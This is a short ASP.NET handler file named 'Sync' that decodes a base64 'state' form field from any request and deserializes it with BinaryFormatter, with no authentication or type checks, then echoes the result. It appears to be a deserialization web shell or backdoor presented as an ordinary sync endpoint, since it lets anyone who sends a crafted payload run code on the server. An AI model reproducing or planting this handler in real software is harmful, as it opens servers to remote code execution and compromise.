<%@ WebHandler Language="C#" Class="Sync" %>
using System;
using System.Web;
using System.IO;
using System.Runtime.Serialization.Formatters.Binary;
public class Sync : IHttpHandler {
    public void ProcessRequest(HttpContext c) {
        byte[] b = Convert.FromBase64String(c.Request.Form["state"]);
        using (var ms = new MemoryStream(b)) {
            object r = new BinaryFormatter().Deserialize(ms);
            c.Response.Write(r == null ? "" : r.ToString());
        }
    }
    public bool IsReusable { get { return false; } }
}
